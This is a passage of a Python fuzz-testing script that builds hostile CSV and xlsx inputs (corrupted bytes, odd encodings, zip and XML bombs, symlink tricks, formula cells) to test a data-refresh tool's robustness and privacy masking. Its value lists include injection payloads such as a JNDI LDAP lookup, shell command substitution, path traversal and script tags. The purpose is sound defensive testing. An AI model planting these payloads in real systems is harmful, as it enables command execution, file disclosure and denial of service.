"""Fuzz campaign (issue 12, item 12): hostile raw areas, refreshed in batches, checked.

A clean control area (the demo generator's county area, or a small area of the same
generator with `--control-scale tiny`) is refreshed alone once: the baseline. Then, batch by
batch, a fresh copy of the control area (hard links) receives a batch of hostile entries and
is refreshed by `townstat refresh` in a child process:

  valid       well-formed files whose keys cannot meet the control area's
  flip/cut/insert   such files with flipped, cut and inserted bytes (CSV bytes, xlsx archive
              bytes, or the sheet XML inside a re-zipped xlsx)
  encoding    UTF-16/32, Latin-1 mojibake, Big5, Shift-JIS, random bytes, gzip, OLE2, zip-not-xlsx
  random_cells, huge_cell (> 32,767 characters), formula (=HYPERLINK, +, -, @), control
              (NUL and other control characters, also `_x0000_` escapes in xlsx), swapped
              (person ID and employer USCC swapped; person IDs in USCC columns), id_in_name
              (person IDs inside names, titles, headers, units, file and folder names)
  odd_name    spaces, long names, control characters, non-UTF-8 bytes, `..`, formula and HTML
              characters, ignored names, odd extensions, unknown and top-level folders
  link        symbolic links: loops, to outside files (with rows that would replace the
              control's), dangling, to folders, to /dev/zero; special: FIFOs, sockets, devices
  bomb        xlsx with absurd dimensions, > 1,048,576 rows, > 16,384 columns, shared-string,
              inline-string and workbook.xml bombs, billion laughs, sparse multi-GB files
  structure   empty files, header only, header out of reach, duplicate headers, unknown units,
              wide files, 30,000 bad rows (the 10,000-per-rule cap), one-line files, reference
              files under other names

Keys of hostile rows never meet the control area's: year 2019, periods 2019-MM, USCCs and
towns of another county (140105). Entries the contract says are never read (links, ignored
names, names with control characters, files at the top of the area, reference files under
other names) hold *poison*: rows with the control area's keys and other values, so that
reading one shows up as control rows changed.

Reported per refresh and in total: crashes (anything but exit 0, or exit 1 from a blocking
check whose reason is printed, counted apart), control rows lost (each contract table
restricted to the control area's years, counties, USCCs and files, compared as multisets with
the baseline), clear person IDs (the control area's and every planted one) in the warehouse
file (its bytes and its text columns), the reports folder (xlsx unzipped), the ingest cache
and the refresh's output, unmasked ID-shaped tokens in echoed columns, unsafe report cells,
control characters in the warehouse, expectations on dq_file, peak RSS (the child's
ru_maxrss from os.wait4 = the largest process of the tree, and the tree's sum sampled from
/proc), wall time.

Usage:
  .venv/bin/python bench/fuzz.py --sample                         # 200 files, one refresh
  .venv/bin/python bench/fuzz.py --files 10000 --batch 1000 --work /tmp/fuzz
  .venv/bin/python bench/fuzz.py --replay 1234,1250 --work /tmp/fuzz --out /tmp/repro/raw
"""

from __future__ import annotations

import argparse
import bisect
import bz2
import collections
import csv
import datetime as dt
import gzip
import io
import json
import math
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

HOSTILE_YEAR = 2019
HOSTILE_COUNTY = "140105"  # 太原市小店区: far from any demo county
SOURCES = ("enterprise", "tax", "employment", "registry")
FORMATS = ("csv-utf8", "csv-bom", "csv-gbk", "xlsx")
MARK_FORMULA = "FUZZFORMULA"
MARK_HTML = "<fuzz-tag onmouseover=alert(1)>"
USCC_CHARS = "0123456789ABCDEFGHJKLMNPQRTUWXY"
CONTRACT_TABLES = (
    "dim_town", "dim_specialty_town", "fact_enterprise_year", "fact_tax_month",
    "fact_employment_month", "fact_market_entity", "ind_town_year", "ind_specialty_town_year",
    "eval_criterion", "eval_specialty_town", "eval_gap", "eval_target", "pub_town_year",
    "dq_file", "dq_rejected_row", "dq_flag",
)

# kind -> weight (per cent of the files)
KIND_WEIGHTS: dict[str, float] = {
    "valid": 4, "flip": 13, "cut": 7, "insert": 9, "encoding": 8, "random_cells": 10,
    "huge_cell": 4, "formula": 6, "control": 7, "swapped": 5, "id_in_name": 6, "odd_name": 8,
    "link": 4, "special": 2, "bomb": 2, "structure": 4.5, "duplicate": 0.5,
}


# Bugs found by this campaign that would stop every refresh (and so hide everything else):
# the generator steers clear of them unless --include-known-bugs. See bench/README.md.
#   huge-money: a money cell whose value in yuan is finite but beyond what whole fen in an
#   Int64 hold (> ~9.2e16 yuan; 1e308 in a 万元 column even becomes inf) is accepted and then
#   fails dq__flags / pub__town_year: nothing is published.
#   id-as-money: a person ID typed into a money cell is accepted as a number and stored
#   (15 digits exactly; 18 digits with the first 17 kept, the 18th being the check digit).
# Both are avoided the same way: no money or integer cell of 1e8 or more is planted.
KNOWN_BUGS = {"huge-money", "id-as-money"}
AVOID: set[str] = set(KNOWN_BUGS)


def say(msg: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", flush=True)


# ====================================================================== identifiers

def uscc_check(body17: str) -> str:
    total = sum(USCC_CHARS.index(c) * pow(3, i, 31) for i, c in enumerate(body17))
    return USCC_CHARS[(31 - total % 31) % 31]


def person_check(body17: str) -> str:
    total = sum(int(c) * pow(2, 18 - i, 11) for i, c in enumerate(body17, 1))
    v = (12 - total % 11) % 11
    return "X" if v == 10 else str(v)


FULLWIDTH = str.maketrans("0123456789Xx", "０１２３４５６７８９Ｘｘ")
ASCII_DIGITS = str.maketrans("０１２３４５６７８９Ｘｘ", "0123456789XX")


def normalise_id(text: str) -> str:
    return re.sub(r"[\s\u3000]", "", text).translate(ASCII_DIGITS).upper()


ID_SHAPE = re.compile(r"^(?:\d{17}[\dX]|\d{15})$")


# ====================================================================== hostile domain values

CN = "安宝北财诚达大德东发丰富广国海和恒华辉佳金锦京聚凯康利隆美明南宁鹏平庆荣瑞盛顺泰天通旺威祥鑫新信兴旭阳耀业益永裕远源圆泽长兆正中众卓"
SUFFIX = ["有限公司", "有限责任公司", "股份有限公司", "厂", "经营部", "专业合作社", "商行", "工作室"]
NASTY = [
    "", " ", "\u3000", "-", "—", "/", "无", "NaN", "nan", "inf", "-inf", "Infinity", "null", "None",
    "NULL", "#N/A", "#REF!", "#VALUE!", "合计", "总计", " 合 计 ", "'", '"', '""', '"unterminated', "\\",
    ",,,", ";", "\t", "1,2,3", "1.2.3", "0x1F", "1e309", "-1e309", "1e308", "9e307", "4.9e-324",
    "1.7976931348623157e308", "9" * 400, "-0", "+0", "0.0000001", "１２３", "١٢٣", "½", "Ⅻ", "😀",
    "👨‍👩‍👧", "\u200b", "\u202e反转", "\ufeff", "e\u0301", "Z̴̡̛a̷l̸g̵o", "(12)", "12-", "￥12", "12元",
    "12%", "1_000", "１,２３４.５", "  12  ", "true", "是", "否", "Y", "国家级", "superlong" * 50,
    MARK_HTML, "<script>alert(1)</script>", "&amp;&lt;", "]]>", "<![CDATA[x]]>", "%s%n%x", "{0}",
    "${jndi:ldap://x}", "$(touch /tmp/pwned)", "`id`", "../../etc/passwd", "C:\\con\\con", "\u2028",
    "\ud7ff", "\U0010ffff", "𠀀𪚥", "0" * 18, "9" * 18, "1" * 15,
]
# values for key columns: never a control-area key (no 2020s year, no demo town or USCC)
NASTY_KEY = [v for v in NASTY if not re.search(r"20[2-9]\d", v)] + [
    "2019.0", "2019.5", "２０１９", "+2019", "02019", " 2019 ", "2019年", "1999", "2100", "201913",
    "2019-00", "2019-13", "2019/13", "2019年13月", "2019-02-30", "0000-00-00", "19-03", "2019-3-",
    "2019--03", "2019-03-01T00:00", "43466", "2019-06 00:00:00", "140105", "1401050", "14010500100",
    "140105001000", "999999999", "000000000",
]


@dataclass
class Domain:
    """Values of the hostile domain for one file; deterministic from the file's index."""

    rng: random.Random
    index: int
    towns: list[str]
    industries: list[str]
    hukou: list[str]
    control_usccs: list[str]
    planted: set[str] = field(default_factory=set)
    serial: int = 0

    def uscc(self, digits_only: bool = False) -> str:
        self.serial += 1
        n = self.index * 1000 + self.serial
        tail = f"{n:09d}" if digits_only or self.rng.random() < 0.3 else \
            "".join(self.rng.choice(USCC_CHARS) for _ in range(3)) + f"{n % 10**6:06d}"
        body = "91" + HOSTILE_COUNTY + tail
        return body + uscc_check(body)

    def person(self) -> str:
        region = self.rng.choice([HOSTILE_COUNTY, "140105", "140202", "142601", "110105", "440301"])
        birth = dt.date(1950, 1, 1) + dt.timedelta(days=self.rng.randrange(365 * 55))
        body = f"{region}{birth:%Y%m%d}{self.rng.randrange(1000):03d}"
        pid = body + person_check(body)
        self.planted.add(pid)
        return pid

    def person15(self) -> str:
        birth = dt.date(1940, 1, 1) + dt.timedelta(days=self.rng.randrange(365 * 50))
        pid = f"{HOSTILE_COUNTY}{birth:%y%m%d}{self.rng.randrange(1000):03d}"
        self.planted.add(pid)
        return pid

    def name(self) -> str:
        return "".join(self.rng.choice(CN) for _ in range(self.rng.randint(2, 6))) + self.rng.choice(SUFFIX)

    def town(self) -> str:
        t = self.rng.choice(self.towns)
        return t + "000" if self.rng.random() < 0.1 else t

    def industry(self) -> str:
        c = self.rng.choice(self.industries)
        r = self.rng.random()
        if r < 0.1:
            return "C" + c
        return c

    def period(self, xlsx: bool = False) -> object:
        m = self.rng.randint(1, 12)
        y = HOSTILE_YEAR
        if xlsx and self.rng.random() < 0.15:
            return dt.date(y, m, 1)
        style = self.rng.randrange(7)
        return [f"{y}-{m:02d}", f"{y}-{m}", f"{y}{m:02d}", f"{y}/{m}", f"{y}/{m:02d}", f"{y}年{m}月",
                f"{y}年{m:02d}月"][style]

    def date(self, xlsx: bool = False, year: int | None = None) -> object:
        d = dt.date(year or self.rng.randint(2000, HOSTILE_YEAR), self.rng.randint(1, 12), self.rng.randint(1, 28))
        if xlsx and self.rng.random() < 0.3:
            return d
        style = self.rng.randrange(5)
        return [f"{d:%Y-%m-%d}", f"{d.year}/{d.month}/{d.day}", f"{d:%Y%m%d}",
                f"{d.year}年{d.month}月{d.day}日", f"{d:%Y-%m-%d} 00:00:00"][style]

    def money(self, negative: bool = False, xlsx: bool = False) -> object:
        v = round(self.rng.uniform(-5000 if negative else 0, 100000), 2)
        if xlsx and self.rng.random() < 0.5:
            return v
        if abs(v) >= 1000 and self.rng.random() < 0.2:
            return f"{v:,.2f}"
        return f"{v:.2f}"


def hostile_value(col, dom: Domain, xlsx: bool) -> object:
    """A valid hostile-domain value for a ColumnSpec."""
    r = dom.rng
    k = col.kind
    if k == "year":
        return HOSTILE_YEAR if xlsx and r.random() < 0.5 else str(HOSTILE_YEAR)
    if k == "period":
        return dom.period(xlsx)
    if k == "date":
        return dom.date(xlsx)
    if k == "uscc":
        return dom.uscc()
    if k == "person_id":
        return dom.person()
    if k == "town":
        return dom.town()
    if k == "hukou":
        h = r.choice(dom.hukou)
        return r.choice([h[:6], h, h + "000"])
    if k == "industry":
        return dom.industry()
    if k == "text":
        return dom.name()
    if k == "money":
        return dom.money(negative=col.minimum is None, xlsx=xlsx)
    if k == "integer":
        v = r.randint(0, 5000)
        return v if xlsx and r.random() < 0.5 else str(v)
    if k == "boolean":
        return r.choice(["是", "否", "有", "无", "Y", "N", "yes", "no", "1", "0", ""])
    if k == "level":
        return r.choice(["无", "市级", "省级", "国家级", ""])
    if k == "entity_type":
        return r.choice(["企业", "个体工商户", "农民专业合作社"])
    return dom.name()


# ====================================================================== tables and writers

@dataclass
class Table:
    source: str
    titles: list[list[object]]
    header: list[str]
    kinds: list[str]  # the column's kind per position ("" for an unknown column)
    names: list[str]  # canonical column name per position ("" for an unknown column)
    rows: list[list[object]]


def build_table(source: str, dom: Domain, xlsx: bool, n_rows: int | None = None) -> Table:
    from schemas.columns import SOURCES as SPECS

    r = dom.rng
    spec = SPECS[source]
    cols = [c for c in spec.columns if c.required or r.random() < 0.6]
    if r.random() < 0.3:
        r.shuffle(cols)
    header, kinds, names = [], [], []
    for c in cols:
        h = r.choice(c.headers + (c.name,))
        if c.kind == "money" and r.random() < 0.3:
            h += r.choice(["(元)", "（万元）", "(千元)", "（元）"])
        header.append(h)
        kinds.append(c.kind)
        names.append(c.name)
    if r.random() < 0.2:  # an unknown column
        pos = r.randrange(len(header) + 1)
        header.insert(pos, r.choice(["备注", "序号", "填报人", "联系电话"]))
        kinds.insert(pos, "")
        names.insert(pos, "")
    titles: list[list[object]] = []
    if r.random() < 0.4:
        titles.append([f"{HOSTILE_YEAR}年{spec.label_zh}（模糊测试）"])
        if r.random() < 0.5:
            titles.append([r.choice(["单位：万元", "金额单位：元", "填报单位：某某局", "计量单位：千元"])])
    n = n_rows if n_rows is not None else r.choice([1, 2, 3, 5, 8, 12, 20, 30, 50, 80])
    rows = []
    for _ in range(n):
        row = []
        for kind, name in zip(kinds, names, strict=True):
            if not kind:
                row.append(r.choice(["", "无", "见附件", "138" + f"{r.randrange(10**8):08d}"]))
            else:
                row.append(hostile_value(spec.column(name), dom, xlsx))
        rows.append(row)
    if r.random() < 0.1 and rows:  # a total row
        total = ["" for _ in header]
        total[0] = "合计"
        rows.append(total)
    return Table(source, titles, header, kinds, names, rows)


def _as_number(v: object) -> float | None:
    try:
        return float(re.sub(r"[,，\s]", "", str(v)))
    except ValueError:
        return None


def defuse(t: Table) -> Table:
    """Steer clear of the known bugs (AVOID): money and integer cells of 1e8 or more become 1."""
    if not AVOID:
        return t
    cols = [j for j, k in enumerate(t.kinds) if k in ("money", "integer")]
    for row in t.rows:
        for j in cols:
            if j < len(row):
                n = _as_number(row[j])
                if n is not None and n == n and abs(n) != float("inf") and abs(n) >= 1e8:
                    row[j] = "1"
    return t


def _cell_text(v: object) -> str:
    if v is None:
        return ""
    if isinstance(v, dt.date):
        return f"{v:%Y-%m-%d}"
    if isinstance(v, float):
        return repr(v)
    return str(v)


def render_csv(t: Table, fmt: str, newline: str | None = None) -> bytes:
    defuse(t)
    buf = io.StringIO()
    nl = newline or ("\n" if fmt == "csv-utf8" else "\r\n")
    w = csv.writer(buf, lineterminator=nl)
    for row in t.titles:
        w.writerow([_cell_text(c) for c in row])
    w.writerow(t.header)
    for row in t.rows:
        w.writerow([_cell_text(c) for c in row])
    text = buf.getvalue()
    if fmt == "csv-bom":
        return b"\xef\xbb\xbf" + text.encode("utf-8", "surrogatepass")
    if fmt == "csv-gbk":
        try:
            return text.encode("gbk")
        except UnicodeEncodeError:
            return text.encode("gb18030", "replace")
    return text.encode("utf-8", "surrogatepass")


def render_xlsx(t: Table, formulas: dict[tuple[int, int], tuple[str, str]] | None = None) -> bytes:
    """A workbook as an office suite writes it (xlsxwriter); formulas: (row, col) -> (formula, cached)."""
    import xlsxwriter

    defuse(t)
    bio = io.BytesIO()
    wb = xlsxwriter.Workbook(bio, {"in_memory": True})
    ws = wb.add_worksheet()
    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    r = 0
    for row in [*t.titles, t.header, *t.rows]:
        for c, v in enumerate(row):
            if formulas and (r, c) in formulas:
                f, cached = formulas[(r, c)]
                ws.write_formula(r, c, f, None, cached)
            elif v is None or v == "":
                continue
            elif isinstance(v, dt.date):
                ws.write_datetime(r, c, dt.datetime(v.year, v.month, v.day), date_fmt)
            elif isinstance(v, bool):
                ws.write_boolean(r, c, v)
            elif isinstance(v, int | float):
                ws.write_number(r, c, v)
            else:
                ws.write_string(r, c, str(v)[:32767])
        r += 1
    wb.close()
    return bio.getvalue()


def col_letters(n: int) -> str:
    s = ""
    n += 1
    while n:
        n, rem = divmod(n - 1, 26)
        s = chr(65 + rem) + s
    return s


_XML_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def xml_text(v: str, raw_controls: bool = False) -> str:
    out = xml_escape(v)
    if raw_controls:
        return out
    return _XML_CONTROL.sub(lambda m: f"_x{ord(m.group()):04X}_", out)


NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>")
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
             'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')


def workbook_xml(sheet_name: str = "Sheet1", pad: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">{pad}'
            f'<sheets><sheet name="{xml_escape(sheet_name)}" sheetId="1" r:id="rId1"/></sheets></workbook>')


WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                 '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def sheet_xml(rows: list[list[object]], dimension: str | None = None, with_r: bool = True,
              raw_controls: bool = False) -> str:
    """Sheet XML with inline strings; cells: None, str, int/float, or ('f', formula, cached)."""
    parts = [f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS_MAIN}">']
    if dimension is None:
        width = max((len(r) for r in rows), default=1)
        dimension = f"A1:{col_letters(max(width - 1, 0))}{max(len(rows), 1)}"
    if dimension:
        parts.append(f'<dimension ref="{dimension}"/>')
    parts.append("<sheetData>")
    for i, row in enumerate(rows, 1):
        parts.append(f'<row r="{i}">' if with_r else "<row>")
        for j, v in enumerate(row):
            ref = f' r="{col_letters(j)}{i}"' if with_r else ""
            if v is None or v == "":
                continue
            if isinstance(v, tuple) and v[0] == "f":
                parts.append(f'<c{ref} t="str"><f>{xml_escape(v[1])}</f><v>{xml_text(v[2], raw_controls)}</v></c>')
            elif isinstance(v, bool):
                parts.append(f'<c{ref} t="b"><v>{int(v)}</v></c>')
            elif isinstance(v, int | float):
                parts.append(f"<c{ref}><v>{v!r}</v></c>")
            else:
                parts.append(f'<c{ref} t="inlineStr"><is><t xml:space="preserve">'
                             f"{xml_text(_cell_text(v), raw_controls)}</t></is></c>")
        parts.append("</row>")
    parts.append("</sheetData></worksheet>")
    return "".join(parts)


def zip_members(members: dict[str, bytes | str | Callable], stored: bool = False) -> bytes:
    """An archive; a callable member is written in pieces (it gets a writable stream)."""
    bio = io.BytesIO()
    comp = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(bio, "w", comp) as zf:
        for name, data in members.items():
            if callable(data):
                info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
                info.compress_type = comp
                with zf.open(info, "w", force_zip64=True) as fh:
                    data(fh)
            else:
                info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
                info.compress_type = comp
                zf.writestr(info, data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
    return bio.getvalue()


def raw_xlsx(rows: list[list[object]], *, dimension: str | None = None, with_r: bool = True,
             raw_controls: bool = False, stored: bool = False, sheet_name: str = "Sheet1",
             shared: str | Callable | None = None, sheet: str | Callable | None = None,
             workbook: str | Callable | None = None, rels: str | Callable | None = None) -> bytes:
    members: dict[str, bytes | str | Callable] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": workbook if workbook is not None else workbook_xml(sheet_name),
        "xl/_rels/workbook.xml.rels": rels if rels is not None else WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet if sheet is not None else sheet_xml(rows, dimension, with_r, raw_controls),
    }
    members["xl/sharedStrings.xml"] = shared if shared is not None else (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS_MAIN}" count="0" uniqueCount="0"></sst>')
    return zip_members(members, stored)


def table_rows(t: Table) -> list[list[object]]:
    defuse(t)
    return [*t.titles, list(t.header), *t.rows]


def render(t: Table, fmt: str) -> bytes:
    return render_xlsx(t) if fmt == "xlsx" else render_csv(t, fmt)


def table_to_text(t: Table) -> str:
    return render_csv(t, "csv-utf8").decode("utf-8", "surrogatepass")


# ====================================================================== mutations

INSERTS = [b"\x00", b"\x00" * 7, b"\r", b"\n", b"\r\n", b'"', b",", b",,,,,,", b"\xff\xfe", b"\xef\xbb\xbf",
           b"\x1b[2J", b"\x07", b"\x7f", "合计".encode(), "总计,,,".encode(), b"\\", b"'", b"\t",
           b"\xe4\xb8", b"\xc0\xae", b"\xed\xa0\x80", b"\x80", b"\x81\x30\x81\x30", "\u2028".encode(),
           b'"\n"', b"=HYPERLINK(\"x\")", b"<", b"&", b"]]>", b"\xa1\xa1", b"\x00\x00\x00\x00\x00\x00\x00\x00"]


def flip(data: bytes, rng: random.Random) -> bytes:
    if not data:
        return b"\x00"
    b = bytearray(data)
    for _ in range(rng.choice([1, 1, 2, 3, 5, 10, 20])):
        i = rng.randrange(len(b))
        b[i] = rng.randrange(256) if rng.random() < 0.5 else b[i] ^ (1 << rng.randrange(8))
    return bytes(b)


def cut(data: bytes, rng: random.Random) -> bytes:
    if len(data) < 2:
        return b""
    r = rng.random()
    if r < 0.2:
        return data[: rng.randrange(min(len(data), 64))]
    return data[: rng.randrange(len(data))]


def insert(data: bytes, rng: random.Random) -> bytes:
    b = bytearray(data)
    for _ in range(rng.choice([1, 1, 2, 4, 8, 16])):
        i = rng.randrange(len(b) + 1)
        snippet = rng.choice(INSERTS) if rng.random() < 0.8 else bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
        b[i:i] = snippet
    return bytes(b)


def mutate_xlsx_inside(data: bytes, rng: random.Random, how: Callable[[bytes, random.Random], bytes]) -> bytes:
    """Mutate one XML member of a workbook, then re-zip it properly (CRC right)."""
    try:
        zf = zipfile.ZipFile(io.BytesIO(data))
        members = {n: zf.read(n) for n in zf.namelist()}
    except zipfile.BadZipFile:
        return how(data, rng)
    targets = [n for n in members if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"]
    if rng.random() < 0.15:
        targets = [n for n in members if n.endswith(".xml") or n.endswith(".rels")]
    name = rng.choice(targets or list(members))
    members[name] = how(members[name], rng)
    return zip_members(members)  # type: ignore[arg-type]


# ====================================================================== the planting context

@dataclass
class Planted:
    index: int
    kind: str
    sub: str
    rel: bytes  # relative path as bytes (may not be UTF-8)
    expect: str  # "rejected" | "listed" | "ignored" | "unlisted" (inside a refused folder)
    poison: bool = False


@dataclass
class Poison:
    """Rows with the control area's keys and other values, per source, as CSV text."""

    tax: str = ""
    enterprise: str = ""
    registry: str = ""
    towns: str = ""
    specialty: str = ""

    def for_source(self, source: str) -> str:
        return getattr(self, source, "") or self.tax


@dataclass
class Ctx:
    index: int
    rng: random.Random
    dom: Domain
    raw: Path
    outside: Path
    poison: Poison
    control_ids: list[str]
    heavy: bool
    bomb_mb: int
    batch_state: dict
    out: list[Planted] = field(default_factory=list)
    mtime: float = 0.0

    # -- writing
    def base(self, source: str) -> bytes:
        return os.fsencode(f"{source}/fuzz/{self.index:05d}")

    def write(self, rel: bytes, data: bytes, kind: str, sub: str, expect: str = "listed",
              poison: bool = False, mtime: float | None = None) -> None:
        path = os.path.join(os.fsencode(self.raw), rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)
        self.touch(path, mtime)
        self.out.append(Planted(self.index, kind, sub, rel, expect, poison))

    def touch(self, path: bytes, mtime: float | None = None) -> None:
        t = self.mtime if mtime is None else mtime
        try:
            os.utime(path, (t, t), follow_symlinks=False)
        except (OSError, OverflowError, ValueError):
            pass

    def entry(self, rel: bytes, kind: str, sub: str, expect: str, poison: bool = False) -> None:
        self.out.append(Planted(self.index, kind, sub, rel, expect, poison))

    def table(self, source: str, xlsx: bool, n_rows: int | None = None) -> Table:
        return build_table(source, self.dom, xlsx, n_rows)

    def ext(self, fmt: str) -> str:
        return ".xlsx" if fmt == "xlsx" else ".csv"


def pick_source(rng: random.Random) -> str:
    return rng.choice(SOURCES)


def pick_fmt(rng: random.Random) -> str:
    return rng.choice(FORMATS)


# ---------------------------------------------------------------------- kinds

def k_valid(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    t = c.table(src, fmt == "xlsx")
    c.write(c.base(src) + os.fsencode(f"_valid{c.ext(fmt)}"), render(t, fmt), "valid", fmt)


def _mutated(c: Ctx, kind: str, how: Callable[[bytes, random.Random], bytes]) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    t = c.table(src, fmt == "xlsx")
    data = render(t, fmt)
    sub = fmt
    if fmt == "xlsx" and c.rng.random() < 0.6:
        data = mutate_xlsx_inside(data, c.rng, how)
        sub = "xlsx-xml"
    else:
        data = how(data, c.rng)
    c.write(c.base(src) + os.fsencode(f"_{kind}{c.ext(fmt)}"), data, kind, sub)


def k_flip(c: Ctx) -> None:
    _mutated(c, "flip", flip)


def k_cut(c: Ctx) -> None:
    _mutated(c, "cut", cut)


def k_insert(c: Ctx) -> None:
    _mutated(c, "insert", insert)


def k_encoding(c: Ctx) -> None:
    src = pick_source(c.rng)
    t = c.table(src, False)
    text = table_to_text(t)
    r = c.rng
    subs = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1-mojibake", "cp1252", "big5", "shift_jis",
            "euc-kr", "random", "ascii-noise", "utf8-broken", "gb18030-4byte", "gzip", "bz2", "ole2", "png",
            "pdf", "zip-not-xlsx", "xlsx-as-csv", "csv-as-xlsx", "utf-7", "cp500"]
    sub = r.choice(subs)
    ext = ".csv"
    if sub in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "big5", "shift_jis", "euc-kr", "utf-7", "cp500"):
        data = text.encode(sub, "replace")
    elif sub == "latin-1-mojibake":
        data = text.encode("utf-8").decode("latin-1").encode("utf-8")
    elif sub == "random":
        data = bytes(r.randrange(256) for _ in range(r.choice([1, 10, 100, 1000, 20000])))
    elif sub == "ascii-noise":
        data = "".join(r.choice("0123456789,\n\"abc ") for _ in range(r.choice([10, 1000, 50000]))).encode()
    elif sub == "utf8-broken":
        b = bytearray(text.encode("utf-8"))
        for _ in range(r.randint(1, 5)):
            b.insert(r.randrange(len(b) + 1), r.choice([0x80, 0xC3, 0xFF, 0xE4]))
        data = bytes(b)
    elif sub == "gb18030-4byte":
        data = (text + "\n" + "".join(chr(r.randrange(0x10000, 0x10FFFF)) for _ in range(50))).encode("gb18030", "replace")
    elif sub == "gzip":
        data = gzip.compress(text.encode("utf-8"))
    elif sub == "bz2":
        data = bz2.compress(text.encode("utf-8"))
    elif sub == "ole2":
        data = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(r.randrange(256) for _ in range(4096))
        ext = r.choice([".xlsx", ".csv"])
    elif sub == "png":
        data = b"\x89PNG\r\n\x1a\n" + bytes(r.randrange(256) for _ in range(2048))
    elif sub == "pdf":
        data = b"%PDF-1.4\n" + text.encode("utf-8")
    elif sub == "zip-not-xlsx":
        data = zip_members({"data.csv": text})
        ext = ".xlsx"
    elif sub == "xlsx-as-csv":
        data = render_xlsx(t)
    else:  # csv-as-xlsx
        data = text.encode("utf-8")
        ext = ".xlsx"
    c.write(c.base(src) + os.fsencode(f"_enc_{sub}{ext}"), data, "encoding", sub)


def _nasty(c: Ctx, kind: str) -> object:
    return c.rng.choice(NASTY_KEY if kind in ("year", "period", "uscc", "person_id", "town", "date") else NASTY)


def k_random_cells(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    t = c.table(src, fmt == "xlsx")
    r = c.rng
    p = r.choice([0.05, 0.2, 0.5, 1.0])
    for row in t.rows:
        for j in range(len(row)):
            if r.random() < p:
                row[j] = _nasty(c, t.kinds[j])
    if r.random() < 0.2:  # rows of odd lengths
        for row in t.rows:
            if r.random() < 0.5:
                del row[r.randrange(len(row)):]
            else:
                row.extend(_nasty(c, "") for _ in range(r.randint(1, 30)))
    if fmt == "xlsx":
        data = raw_xlsx(table_rows(t)) if r.random() < 0.5 else render_xlsx(t)
    else:
        data = render_csv(t, fmt)
    c.write(c.base(src) + os.fsencode(f"_random{c.ext(fmt)}"), data, "random_cells", fmt)


def k_huge_cell(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    r = c.rng
    t = c.table(src, False, n_rows=r.choice([1, 3, 10]))
    length = r.choice([32_767, 32_768, 40_000, 100_000, 1_000_000] + ([5_000_000] if c.heavy else []))
    ch = r.choice(["厂", "a", "9", "🙂", " ", "\u3000", ","])
    where = r.choice(["cell", "cell", "cell", "header", "title"])
    big = ch * length
    sub = f"{fmt}-{where}-{length}"
    if where == "header":
        t.header.append(big)
        t.kinds.append("")
        t.names.append("")
        for row in t.rows:
            row.append("")
    elif where == "title":
        t.titles.insert(0, [big])
    else:
        row = r.choice(t.rows)
        j = r.randrange(len(row))
        row[j] = big if t.kinds[j] not in ("money", "integer") or r.random() < 0.5 else "9" * length
    if fmt == "xlsx":
        shared = r.random() < 0.5
        if shared:  # the big string through the shared-string table
            rows = table_rows(t)
            strings: list[str] = []
            cells = []
            for row in rows:
                out = []
                for v in row:
                    if isinstance(v, str) and len(v) > 1000:
                        strings.append(v)
                        out.append(("s", len(strings) - 1))
                    else:
                        out.append(v)
                cells.append(out)
